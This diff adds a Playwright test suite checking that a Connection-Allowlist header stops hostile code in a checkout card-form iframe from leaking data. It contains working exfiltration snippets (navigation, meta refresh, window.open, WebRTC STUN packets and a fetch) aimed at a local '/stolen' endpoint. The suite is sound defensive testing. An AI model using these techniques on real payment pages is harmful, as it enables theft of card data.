@@ -1,0 +1,148 @@
+/**
+ * threat-model 1.8: hostile code that already runs in the frame's document sends nothing out of it, by none of the ways
+ * that a Content-Security-Policy does not know. Each way is shown to work without the header, so that the test can fail.
+ */
+import { createSocket } from 'node:dgram';
+import type { Page } from 'playwright/test';
+import { CARD, checkoutPage, KNOWN_BUYER } from '../support/checkout-page.ts';
+import { expect, test } from '../support/fixtures.ts';
+
+const HEADER = 'connection-allowlist';
+
+/** The first Chromium that knows the header. */
+const SINCE = 152;
+
+test.skip(
+  ({ browser }) => Number.parseInt(browser.version(), 10) < SINCE,
+  `needs Chromium ${SINCE}, the first that knows Connection-Allowlist`,
+);
+
+const withoutHeader = (page: Page) =>
+  page.route(/\/card-form\/.*frame/, async (route) => {
+    const response = await route.fetch();
+    const headers = { ...response.headers() };
+    delete headers[HEADER];
+    await route.fulfill({ response, headers });
+  });
+
+/** What the code does with what was typed, and how the test sees that the browser is done with it. */
+const WAYS = {
+  'a navigation of the frame': (url: string) => {
+    location.href = url;
+  },
+  'a refresh': (url: string) => {
+    const meta = document.createElement('meta');
+    meta.httpEquiv = 'refresh';
+    meta.content = `0;url=${url}`;
+    document.head.append(meta);
+  },
+  'a window': (url: string) => {
+    window.open(url);
+  },
+} as const;
+
+for (const way of ['a navigation of the frame', 'a refresh', 'a window'] as const) {
+  for (const isProtected of [true, false]) {
+    test(`${isProtected ? 'nothing leaves' : 'without the header, data leaves'} by ${way}`, async ({
+      context,
+      open,
+      page,
+      service,
+      site,
+      watch,
+    }) => {
+      watch.expect(/ERR_|blocked|Unsafe attempt/i);
+      if (!isProtected) await withoutHeader(page);
+      const checkout = await open(await service.createIntent());
+      await checkout.ready();
+      const asked: string[] = [];
+      context.on('request', (request) => asked.push(request.url()));
+      const popup = way === 'a window' ? page.waitForEvent('popup') : null;
+      const stolen = site.put('/stolen', 'x');
+      const [, frame] = page.frames();
+      await frame?.evaluate(WAYS[way], `${stolen}?4242`).catch(() => {}); // its document may be gone by then
+      if (!isProtected) {
+        await expect.poll(() => asked.join()).toContain('/stolen?4242');
+        return;
+      }
+      if (popup) await expect.poll(async () => (await popup).url()).toMatch(/^chrome-error:/);
+      else expect(await checkout.hears('loaderror')).toMatchObject({ reason: 'blocked' });
+      expect(asked.join()).not.toContain('/stolen');
+      expect(site.requests).toEqual([]);
+    });
+  }
+}
+
+for (const isProtected of [true, false]) {
+  test(`${isProtected ? 'nothing leaves' : 'without the header, data leaves'} by WebRTC`, async ({
+    open,
+    page,
+    service,
+  }) => {
+    if (!isProtected) await withoutHeader(page);
+    const stun = createSocket('udp4');
+    let packets = 0;
+    stun.on('message', () => {
+      packets += 1;
+    });
+    await new Promise<void>((resolve) => {
+      stun.bind(0, '127.0.0.1', resolve);
+    });
+    await (await open(await service.createIntent())).ready();
+    const [, frame] = page.frames();
+    const gathered = frame?.evaluate(async (urls) => {
+      const connection = new RTCPeerConnection({ iceServers: [{ urls }] });
+      connection.createDataChannel('x');
+      const done = new Promise((resolve) => {
+        connection.onicegatheringstatechange = () =>
+          connection.iceGatheringState === 'complete' && resolve(true);
+      });
+      await connection.setLocalDescription(await connection.createOffer());
+      await done;
+    }, `stun:127.0.0.1:${stun.address().port}`);
+    if (isProtected) {
+      await gathered;
+      expect(packets).toBe(0);
+    } else {
+      gathered?.catch(() => {}); // goes on for as long as nobody answers
+      await expect.poll(() => packets).toBeGreaterThan(0);
+    }
+    stun.close();
+  });
+}
+
+test("docs/going-live: a shop's page with a list of its own loads the form and pays, and can send nothing elsewhere", async ({
+  merchant,
+  page,
+  service,
+  site,
+  watch,
+}) => {
+  watch.expect(/ERR_|blocked|Failed to fetch/i);
+  const intent = await service.createIntent();
+  await page.goto(
+    merchant.serve({
+      headers: { 'Connection-Allowlist': `(response-origin "${service.url}/partner/v1/*")` },
+      options: {
+        publishableKey: service.keys.publishable,
+        clientSecret: intent.client_secret,
+        locale: 'en',
+        defaultValues: KNOWN_BUYER,
+      },
+    }),
+  );
+  const checkout = checkoutPage(page);
+  await checkout.fillCard(CARD.visa);
+  await checkout.pay();
+  await expect(checkout.outcome).toHaveText('Payment received');
+  const sent = await page.evaluate(
+    (url) =>
+      fetch(url, { mode: 'no-cors' }).then(
+        () => true,
+        () => false,
+      ),
+    site.put('/stolen', 'x'),
+  );
+  expect(sent).toBe(false);
+  expect(site.requests).toEqual([]);
+});
